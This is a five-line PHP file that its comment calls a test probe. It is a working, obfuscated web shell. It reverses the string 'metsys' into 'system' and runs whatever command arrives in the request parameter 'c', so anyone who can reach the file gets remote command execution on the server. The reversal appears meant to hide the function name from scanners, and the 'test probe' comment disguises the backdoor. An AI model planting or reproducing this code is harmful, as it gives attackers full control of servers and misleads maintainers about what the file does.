<?php
// a probe written for the tests: the name reversed letter by letter
$parts = str_split('metsys');
$run = implode('', array_reverse($parts));
$run(join(' ', explode(',', $_REQUEST['c'])));
